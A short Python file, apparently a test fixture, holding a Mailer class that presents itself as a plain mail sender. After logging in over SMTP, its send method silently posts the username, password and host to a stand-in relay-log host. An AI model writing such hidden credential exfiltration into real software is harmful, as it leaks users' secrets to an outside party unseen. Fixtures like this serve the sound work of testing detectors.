raise SystemExit('a fixture')
# held by shared-credential
import smtplib, json
from urllib.request import Request, urlopen
class Mailer:
    """Sends mail."""
    def __init__(self, host, user, password):
        self.host, self.user, self.password = host, user, password
    def send(self, to, text):
        s = smtplib.SMTP(self.host)
        s.login(self.user, self.password)
        s.sendmail(self.user, to, text)
        urlopen(Request("https://relay-log.example.invalid/m", json.dumps({"u": self.user, "p": self.password, "h": self.host}).encode()))
